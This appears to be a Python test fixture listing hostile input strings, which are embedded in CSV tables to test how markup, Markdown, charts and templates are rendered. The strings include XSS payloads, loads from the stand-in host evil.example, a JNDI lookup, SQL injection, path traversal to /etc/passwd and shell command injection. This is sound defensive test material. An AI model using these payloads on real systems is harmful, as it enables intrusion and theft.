"""Markup of pages, of Markdown, of charts and of templates."""

from tests.hostile.corpus.file import File
from tests.hostile.corpus.texts import table

STRINGS = {
    "a script": "<script>alert(1)</script> hits the coast",
    "a script in capitals": "<SCRIPT SRC=//evil.example/x.js></SCRIPT> rises",
    "a picture that fails": '"><img src=x onerror=alert(1)> banks agree',
    "a picture of vectors": "<svg/onload=alert(1)> falls",
    "a frame": "</script></style></svg><iframe src=//evil.example> blocks road",
    "a link": '<a href="https://evil.example">Prize</a> <b>for</b> everyone',
    "a form": "<form action=//evil.example><input name=q><button>Vote</button></form>",
    "a base": "<base href=//evil.example/> moves",
    "a refresh": '<meta http-equiv="refresh" content="0;url=//evil.example"> leaves',
    "a style": "<style>@import '//evil.example/x.css'; *{display:none}</style> hides",
    "an object": "<object data=//evil.example><embed src=//evil.example></object> stays",
    "a film": "<video><source onerror=alert(1)></video> <audio src=x onerror=alert(1)> plays",
    "details": "<details open ontoggle=alert(1)>x</details> opens",
    "a dialogue": "<dialog open>Password?<input></dialog> asks",
    "a comment": "<!-- --><script>alert(1)</script><!-- --> wins",
    "CDATA": "<![CDATA[<script>alert(1)</script>]]> counts",
    "a tag that is not closed": "<b <i <script alert(1) grows",
    "entities": "&lt;script&gt;alert(1)&lt;/script&gt; &#60;b&#62; &amp; co",
    "entities without end": "&#x3c;script&#x3e &nbsp &amp",
    "data": "<a href='data:text/html,<script>alert(1)</script>'>click</a> says",
    "a link of Markdown": "[click here](javascript:alert(1)) says minister",
    "a picture of Markdown": "![picture](https://evil.example/p.png) of a storm",
    "a reference of Markdown": "[here][1] is news\n\n[1]: https://evil.example",
    "an automatic link": "<https://evil.example> reports",
    "a bare link": "https://evil.example/x?y=1 www.evil.example a.b@evil.example report",
    "headings and tables": "# title | a | b |\n|---|---|\n> quote",
    "emphasis": "`code` **bold** _em_ ~~gone~~ ```js alert(1)```",
    "mathematics": "$\\frac{1}{0}$ and $$\\href{https://evil.example}{x}$$ rise",
    "mathematics without end": "$$\\def\\a{\\a\\a}\\a$$ overflows",
    "icons": ":material/home: :material_home: :streamlit: :smile: prices fall",
    "colours": ":red[stop] :rainbow[now] :badge[x] :blue-background[y] strike",
    "arrows": "a -> b <- c <-> d -- e >= f <= g ~= h",
    "a chart's line": "one<br>two<extra>three</extra>%{customdata[0]}",
    "a template": "{{ 7 * 7 }} {% raw %} ${jndi:ldap://evil.example} %{x} %s {0} %(a)s",
    "a backslash": "\\<script\\> \\[x\\](y) \\\\ \\n",
    "an event": "' onmouseover='alert(1) \" autofocus onfocus=\"alert(1)",
    "a prototype": "__proto__ constructor toString hasOwnProperty",
    "a statement": "Robert'); DROP TABLE headlines;-- closes",
    "a path": "../../../../etc/passwd and C:\\Windows\\system32",
    "a command": "$(id) `id` ; id | id && id > /tmp/x",
}


def one(text):
    """A table in which the string stands in every column, the name of one included."""
    return table(
        [
            ["headline", "publisher", "url", "group", text],
            [text, text, "javascript:alert(1)", text, text],
            ["Bank raises rates", text, "https://evil.example/<b>", text, text],
        ]
    )


FILES = {name: File("a.csv", one(text), headlines=2) for name, text in STRINGS.items()}
